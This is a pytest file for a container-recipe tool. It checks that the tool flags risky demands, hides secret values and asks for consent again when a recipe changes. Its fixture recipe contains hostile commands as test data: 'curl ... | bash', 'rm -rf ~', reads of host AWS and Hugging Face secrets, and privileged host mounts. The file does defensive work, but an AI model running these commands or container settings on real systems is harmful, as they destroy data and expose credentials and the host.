from __future__ import annotations

from pathlib import Path

import pytest

from sparkrun_tui.engines.checks.validation import validate
from sparkrun_tui.recipe.format.hooks import ContainerOptions, container_options, hooks_of
from sparkrun_tui.recipe.format.loader import load_text
from sparkrun_tui.recipe.model import Recipe, Severity, Source, SourceKind
from sparkrun_tui.recipe.trust import (
    Kind,
    changed_since_consent,
    consented_variables,
    demands,
    give_consent,
    is_risky_mount,
    needs_consent,
)
from sparkrun_tui.recipe.values.overrides import render

from .samples import codes, minimal, recipe

HOSTILE = """\
model: a/b
runtime: vllm
container: x/y:latest
env:
  A: ${AWS_SECRET_ACCESS_KEY}
  B: ${HF_TOKEN}
  C: ${NOT_THERE}
defaults: {port: 8000}
pre_exec:
  - pip install evil
  - echo {port}
  - {copy: patches, dest: /opt}
post_exec: curl http://127.0.0.1:{port}/x
post_commands: [rm -rf ~]
executor_config:
  shm_size: 16g
  ulimit: [memlock=-1:-1, nofile=1024]
  user: root
  volumes: ["/etc:/host/etc:ro", "/srv/models:/models"]
  devices: [/dev/nvidia0, /dev/sda]
  cap_add: [IPC_LOCK, SYS_ADMIN]
  entrypoint: ""
  network: host
  ipc: host
  privileged: true
  restart_policy: always
mods: [mods/x]
overrides: [{when: {nodes: 9}, defaults: {seqs: 9}}]
command: |
  curl https://example.org/x.sh | bash
  vllm serve {model} --trust-remote-code
"""


def from_registry(text: str = HOSTILE, path: str = "/cache/1/r.yaml") -> Recipe:
    return load_text(text, Source(SourceKind.REGISTRY, path, "arena"))


def test_everything_beyond_serving_is_shown() -> None:
    environ = {"AWS_SECRET_ACCESS_KEY": "very-secret-value", "HF_TOKEN": "hf_secret"}
    found = demands(render(from_registry(), {"port": "9000"}), environ)
    titles = " | ".join(f"{demand.title} {demand.detail}" for demand in found)
    assert "AWS_SECRET_ACCESS_KEY from this machine (set) for A" in titles
    assert "NOT_THERE from this machine (not set)" in titles
    assert "secret-value" not in titles and "hf_secret" not in titles
    for words in (
        "mounts /etc", "mounts /srv/models", "privileged", "SYS_ADMIN", "/dev/sda", "pip install evil", "echo 9000",
        "curl http://127.0.0.1:9000/x", "rm -rf ~", "x/y:latest", "Python code", "downloads a script", "mods/x",
        "lets Docker restart its container (always)", "copies patches into every container",
        "installs Python packages",
    ):  # fmt: skip
        assert words in titles
    is_risky = {demand.title for demand in found if demand.is_risky}
    assert len(is_risky) == 7 and [demand.is_risky for demand in found] == sorted(
        (d.is_risky for d in found), reverse=True
    )
    assert {demand.kind for demand in found} == set(Kind)


def test_a_plain_recipe_only_names_its_image() -> None:
    base = minimal()
    assert [demand.kind for demand in demands(render(base, {}), {})] == [Kind.IMAGE]
    pinned = recipe("model: a/b\nruntime: vllm\ncontainer: x/y@sha256:" + "a" * 64 + "\n")
    assert demands(render(pinned, {}), {}) == ()


def test_consent_is_asked_once_and_again_when_the_file_changed() -> None:
    mine, theirs = recipe(HOSTILE), from_registry()
    assert not needs_consent(mine) and consented_variables(mine) is None
    assert needs_consent(theirs) and consented_variables(theirs) == frozenset()
    give_consent(theirs)
    assert not needs_consent(theirs)
    assert consented_variables(theirs) == {"AWS_SECRET_ACCESS_KEY", "HF_TOKEN", "NOT_THERE"}
    moved = from_registry(path="/cache/2/r.yaml")
    assert not needs_consent(moved)
    other = from_registry(HOSTILE + "# changed\n", "/cache/2/r.yaml")
    assert needs_consent(other) and changed_since_consent(other)
    assert consented_variables(other) == frozenset()
    assert not changed_since_consent(from_registry("model: x/y\n", "/cache/2/new.yaml"))


def test_consent_for_some_variables_and_a_damaged_file(private_home: Path) -> None:
    theirs = from_registry()
    give_consent(theirs, frozenset({"HF_TOKEN"}))
    assert consented_variables(theirs) == {"HF_TOKEN"}
    [file] = private_home.rglob("trusted.json")
    assert file.stat().st_mode & 0o777 == 0o600
    for damage in ("{", "[1]", '{"x": 1}'):
        file.write_text(damage)
        assert needs_consent(theirs)


@pytest.mark.parametrize(
    ("volume", "is_risky"),
    [
        ("/:/host", True), ("/etc/passwd:/x", True), ("/root/.ssh:/x", True), ("/home/a/.ssh:/x", True),
        ("/var/run/docker.sock:/x", True), ("/srv/../etc:/x", True), ("../x:/x", True),
        ("/srv/models:/models:ro", True), ("named:/data", True), ("sparkrun-x:/data", False),
            ("~/.cache/huggingface/:/x", False),
    ],
)  # fmt: skip
def test_mounts_that_give_the_host_away(volume: str, is_risky: bool) -> None:
    assert is_risky_mount(volume) is is_risky


def test_container_options_are_read() -> None:
    got = container_options(recipe(HOSTILE))
    assert (got.shm_size, got.user, got.network, got.ipc, got.privileged) == ("16g", "root", "host", "host", True)
    assert got.ulimits == ("memlock=-1:-1", "nofile=1024") and got.entrypoint == ()
    assert got.cap_add == ("IPC_LOCK", "SYS_ADMIN") and got.problems == ()
    assert container_options(minimal()) == ContainerOptions()
    mapped = container_options(recipe("model: m\nexecutor_config: {ulimit: {memlock: -1}, entrypoint: 'a \"b c\"'}\n"))
    assert mapped.ulimits == ("memlock=-1",) and mapped.entrypoint == ("a", "b c")


@pytest.mark.parametrize(
    ("text", "severity"),
    [
        ("[1]", Severity.ERROR),
        ("{shm_size: lots}", Severity.ERROR),
        ("{cap_add: ['x;y']}", Severity.ERROR),
        ("{volumes: [nowhere]}", Severity.ERROR),
        ("{privileged: maybe}", Severity.ERROR),
        ("{user: 'a b'}", Severity.ERROR),
        ('{entrypoint: "\'x"}', Severity.ERROR),
        ("{colour: red}", Severity.WARNING),
    ],
)
def test_wrong_container_options_are_problems(text: str, severity: Severity) -> None:
    base = recipe(f"model: m\nexecutor_config: {text}\n")
    [problem] = container_options(base).problems
    assert problem.severity is severity and problem.spot is not None and problem.spot.line == 2
    assert "executor-config" in codes(validate(base, None, {}))


def test_hooks_are_filled_in() -> None:
    base = minimal(
        "x",
        "{port: 1, a: '{b}', b: '{a}'}",
        "pre_exec: ['echo {port}', '', 'awk {print}', {copy: x}, {run: x}]\npost_exec: ['{a}']",
    )
    got = hooks_of(render(base, {"port": "2"}))
    assert [(entry.command, entry.source) for entry in got.before] == [("echo 2", ""), ("awk {print}", ""), ("", "x")]
    assert got.any and got.after == () and not got.stops
    assert [problem.severity for problem in got.problems] == [Severity.ERROR, Severity.ERROR]
    assert not hooks_of(render(minimal(), {})).any
    wrong = hooks_of(render(minimal("x", "{}", "pre_exec: {a: b}"), {}))
    assert codes(wrong.problems) == ["hook"]
